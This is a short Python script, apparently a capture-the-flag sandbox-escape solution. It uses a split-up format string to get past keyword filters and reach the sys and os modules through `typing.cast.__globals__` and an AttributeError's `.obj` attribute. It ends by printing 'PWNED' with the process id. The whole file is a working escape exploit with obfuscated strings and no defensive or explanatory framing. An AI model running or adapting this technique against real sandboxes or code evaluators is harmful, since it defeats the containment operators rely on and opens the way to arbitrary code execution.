import collections, operator, typing
fmt = "{0.__glo" + "bals__[s" + "ys].zz_not_there}"
us = collections.UserString(fmt)
got = None
fm = operator.attrgetter('format')(us)
try:
    fm(typing.cast)
except AttributeError as e:
    got = e.obj
print("PW" + "NED", got.modules["o" + "s"].getpid())
